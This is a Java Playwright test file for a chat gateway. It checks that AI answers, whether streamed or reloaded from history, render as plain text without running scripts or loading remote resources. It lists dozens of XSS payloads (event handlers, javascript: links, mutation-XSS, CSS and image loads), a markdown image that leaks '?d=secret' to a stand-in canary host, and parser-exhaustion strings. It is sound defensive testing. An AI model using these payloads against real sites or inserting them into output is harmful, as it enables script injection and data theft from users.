package chatgateway.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import chatgateway.TestGateway;
import com.microsoft.playwright.Page;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/** A model's text is text: through the live stream and from history, nothing in it runs, loads or looks like the page (security.md T28, T29). */
class HostileTextTest {
    /** CANARY is replaced by a server that must not hear from anybody. */
    private static final List<String> PAYLOADS = List.of(
            "<img src=x onerror=\"window.__xss=1\">",
            "<IMG SRC=x ONERROR=window.__xss=1//",
            "<svg/onload=window.__xss=1>",
            "<svg><script>window.__xss=1</script></svg>",
            "<script>window.__xss=1</script>",
            "<script src=\"CANARY/x.js\"></script>",
            "[click](javascript:window.__xss=1)",
            "[click](java&#10;script:window.__xss=1)",
            "[click](&#106;avascript:window.__xss=1)",
            "[click](\u0001javascript:window.__xss=1)",
            "[click](data:text/html,<script>window.__xss=1</script>)",
            "[click](vbscript:window.__xss=1)",
            "[click](blob:CANARY/1)",
            "<javascript:window.__xss=1>",
            "<a href=\"javascript:window.__xss=1\">click</a>",
            "[a](https://example.com/\"onmouseover=\"window.__xss=1\")",
            "[a](https://example.com 'x\" onmouseover=\"window.__xss=1')",
            "```\"><img/src=x/onerror=window.__xss=1>\ncode\n```",
            "```js <img src=x onerror=window.__xss=1>\n<img src=x onerror=window.__xss=1>\n```",
            "`<img src=x onerror=window.__xss=1>`",
            "<iframe src=\"javascript:window.__xss=1\"></iframe>",
            "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
            "<style>@import 'CANARY/x.css'; body { background: url(CANARY/bg) }</style>",
            "<div style=\"background: url(CANARY/bg)\">x</div>",
            "<link rel=stylesheet href=\"CANARY/x.css\">",
            "<link rel=preload as=image href=\"CANARY/p.png\">",
            "<meta http-equiv=refresh content=\"0;url=CANARY/\">",
            "<base href=\"CANARY/\">",
            "<form id=app action=\"CANARY/\"><input name=query autofocus onfocus=window.__xss=1></form>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.__xss=1&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=1>\">",
            "<details open ontoggle=window.__xss=1>x</details>",
            "<video src=\"CANARY/v.mp4\" poster=\"CANARY/p.png\" onerror=window.__xss=1></video>",
            "<audio src=\"CANARY/a.mp3\" autoplay></audio>",
            "<object data=\"CANARY/o.swf\"></object><embed src=\"CANARY/e\">",
            "<picture><source srcset=\"CANARY/s.png\"><img srcset=\"CANARY/t.png 2x\"></picture>",
            "<svg><image href=\"CANARY/i.png\"/></svg>",
            "![x](CANARY/?d=secret)",
            "![x][1]\n\n[1]: CANARY/?d=secret",
            "![x](CANARY/a.png \"t\" onerror=window.__xss=1)",
            "![\"onerror=\"window.__xss=1](CANARY/b.png)",
            "| a | b |\n|---|---|\n| <img src=x onerror=window.__xss=1> | <br><svg onload=window.__xss=1> |",
            "$$\\href{javascript:window.__xss=1}{x}$$",
            "$$\\includegraphics{CANARY/m.png}$$",
            "$$\\htmlStyle{background:url(CANARY/n)}{x} \\htmlData{x=1}{y}$$",
            "$$<img src=x onerror=window.__xss=1>$$",
            "> - 1. <img src=x onerror=window.__xss=1>",
            "&lt;img src=x onerror=window.__xss=1&gt;",
            "<!--<img src=\"--><img src=x onerror=window.__xss=1//\">",
            "<p id=query class=composer>x</p><a id=send name=send>y</a>",
            "</template></article><img src=x onerror=window.__xss=1>");

    /** What an answer may consist of: everything else is markup that the text brought along. */
    private static final String FOREIGN = """
            (prose) => [...prose.querySelectorAll('*')].filter((element) => {
              if (element.closest('figure.code') && element.matches('figure, figcaption, button, svg, use, pre, span, code')) return false;
              if (element.closest('.math-drawn')) return element.matches('a, img, script, iframe, [onerror], [href]');
              return !element.matches('div.block, div.table, p, br, hr, strong, em, del, code, blockquote, a, ul, ol, li,'
                + 'h1, h2, h3, h4, h5, h6, table, thead, tbody, tr, th, td');
            }).map((element) => element.outerHTML)""";

    private static final String HANDLERS = """
            (prose) => [...prose.querySelectorAll('*')].flatMap((element) => [...element.attributes].filter((attribute) =>
              /^on|^style$|^src|^id$|^name$|^form|^action$|^poster$|^background$/.test(attribute.name)
              && !(attribute.name === 'style' && element.closest('.math-drawn'))
              || attribute.name === 'href' && !/^(https?:|mailto:|#icon-)/.test(attribute.value))
              .map((attribute) => `${attribute.name}=${attribute.value}`))""";

    @RegisterExtension
    final Chromium chromium = new Chromium();

    @AutoClose
    private final TestGateway gateway = TestGateway.start();

    @AutoClose
    private final Canary canary = new Canary();

    @Test
    void nothing_runs_or_loads_however_the_stream_cuts_it() {
        var page = chromium.open(gateway.chatUrl("minji"));
        var chat = ChatView.of(page);

        assertAll(PAYLOADS.stream().map(payload -> () -> {
            var hostile = payload.replace("CANARY", canary.url());
            gateway.dify().play(answer -> {
                answer.text("Look: ");
                for (var from = 0; from < hostile.length(); from += 3) {
                    answer.text(hostile.substring(from, Math.min(from + 3, hostile.length())));
                }
                answer.text("\n\nThe end.");
                answer.end();
            });
            chat.askAndWait(hostile);
            assertHarmless(page, chat, hostile);
        }));
        assertEquals(List.of(), canary.visits());
    }

    @Test
    void nothing_runs_or_loads_when_it_comes_from_history() {
        var page = chromium.open(gateway.chatUrl("minji"));
        var chat = ChatView.of(page);
        for (var payload : PAYLOADS.subList(0, 20)) { // a page of history
            var hostile = payload.replace("CANARY", canary.url());
            gateway.dify().play(answer -> {
                answer.text(hostile);
                answer.end();
            });
            chat.askAndWait("?");
        }

        page.reload();

        assertThat(chat.answers()).hasCount(20);
        assertNull(page.evaluate("() => window.__xss"));
        for (var answer : chat.find("[data-part=text]").all()) {
            assertEquals(List.of(), answer.evaluate(FOREIGN));
            assertEquals(List.of(), answer.evaluate(HANDLERS));
        }
        assertEquals(List.of(), canary.visits());
    }

    /** Split in a tag, the half that is there must not become an element for a moment. */
    @Test
    void a_tag_that_is_not_complete_yet_is_not_an_element() {
        var halfWasSeen = new Gate();
        gateway.dify().play(answer -> {
            answer.text("Half: <img src=x onerror=\"window.__xss");
            halfWasSeen.await();
            answer.text("=1\"> whole.");
            answer.end();
        });
        var page = chromium.open(gateway.chatUrl("minji"));
        var chat = ChatView.of(page);
        chat.ask("?");
        assertThat(chat.text()).containsText("Half:");
        assertEquals(List.of(), chat.text().evaluate(FOREIGN));
        halfWasSeen.open();
        chat.finished();
        assertHarmless(page, chat, "a tag in two events");
        assertThat(chat.text()).containsText("<img src=x onerror=\"window.__xss=1\"> whole.");
    }

    @Test
    void a_remote_image_is_a_link_that_names_its_host() {
        gateway.dify().play(answer -> {
            answer.text("![a chart](" + canary.url() + "/chart.png)");
            answer.end();
        });
        var chat = chromium.chat(gateway, "minji");
        chat.askAndWait("Draw");

        var link = chat.text().locator("a.image");
        assertThat(link).hasText("a chart (image on " + canary.url().replace("http://", "") + ")");
        assertThat(link).hasAttribute("rel", "noopener noreferrer nofollow");
        assertEquals(List.of(), canary.visits());
    }

    @Test
    void the_users_own_words_are_shown_as_they_were_typed() {
        var words = "<img src=x onerror=window.__xss=1> **not bold** [a](javascript:1)";
        var page = chromium.open(gateway.chatUrl("minji"));
        var chat = ChatView.of(page);
        gateway.dify().play(answer -> answer.end());

        chat.askAndWait(words);

        assertThat(chat.questions()).hasText(words);
        assertEquals(0, chat.questions().locator("*").count());
        assertNull(page.evaluate("() => window.__xss"));
    }

    static Stream<String> costlyTexts() {
        return Stream.of(
                "x".repeat(1_000_000),
                ">".repeat(10_000) + " deep",
                "*".repeat(10_000),
                "`".repeat(9_999) + " " + "`".repeat(9_998),
                "[".repeat(10_000),
                "![](".repeat(3_000),
                "[](<".repeat(3_000) + ")",
                "[a](b[c](d".repeat(1_000),
                "$".repeat(10_000),
                "\\(".repeat(5_000),
                "<".repeat(10_000),
                "| ".repeat(5_000) + "\n" + "|-".repeat(5_000),
                "- ".repeat(1_000) + "x");
    }

    @Test
    void texts_that_cost_a_careless_parser_minutes_are_shown_in_seconds() {
        var chat = chromium.chat(gateway, "minji");
        assertAll(costlyTexts().map(text -> () -> {
            gateway.dify().play(answer -> {
                answer.text(text);
                answer.end();
            });
            chat.askAndWait("?");
        }));
    }

    private static void assertHarmless(Page page, ChatView chat, String payload) {
        assertNull(page.evaluate("() => window.__xss"), payload);
        assertEquals(List.of(), chat.text().evaluate(FOREIGN), payload);
        assertEquals(List.of(), chat.text().evaluate(HANDLERS), payload);
        assertEquals("", page.evaluate("() => location.hash"), payload);
    }
}
